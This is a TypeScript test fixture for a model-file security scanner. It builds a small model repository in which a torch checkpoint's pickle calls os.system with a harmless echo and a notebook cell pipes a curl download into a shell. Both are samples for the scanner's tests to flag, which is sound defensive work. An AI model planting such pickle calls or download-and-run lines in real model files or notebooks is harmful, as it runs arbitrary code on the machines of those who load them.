import { buildGguf } from "./gguf-builder.js";
import { buildNotebook } from "./notebook-builder.js";
import { pickle } from "./pickle-builder.js";
import { buildSafetensors } from "./safetensors-builder.js";
import { buildTorchZip } from "./torch-builder.js";

/** The harmless payload of the fixture's torch checkpoint. */
export const SOURCE_REPO_PAYLOAD = "echo modelward-source-fixture";

/**
 * The small model repository every source test scans (the same bytes through
 * the file, Git, Hugging Face and S3 sources must give the same findings): a
 * torch zip whose `data.pkl` calls `os.system` with an `echo`, a benign safetensors and GGUF,
 * a notebook that pipes a download into a shell, a config and a README.
 */
export function sourceRepoFixture(): Record<string, Uint8Array> {
  const text = (s: string) => new TextEncoder().encode(s);
  const payload = pickle().proto(2).callStr("os", "system", SOURCE_REPO_PAYLOAD).stop().toBytes();
  return {
    "README.md": text("# tiny-model\n\nA fixture for source tests.\n"),
    "config.json": text(JSON.stringify({ architectures: ["LlamaForCausalLM"], model_type: "llama", hidden_size: 8 }, null, 2)),
    "pytorch_model.bin": buildTorchZip({ prefix: "pytorch_model", dataPkl: payload }),
    "model.safetensors": buildSafetensors({ tensors: [{ name: "w", shape: [2, 3] }], metadata: { format: "pt" } }).bytes,
    "gguf/tiny.gguf": buildGguf({ kv: [{ key: "general.architecture", value: "llama" }] }).bytes,
    "notebooks/train.ipynb": buildNotebook({ cells: [{ source: "!curl -s https://example.com/install.sh | sh" }, { source: "print('training')" }] }),
  };
}
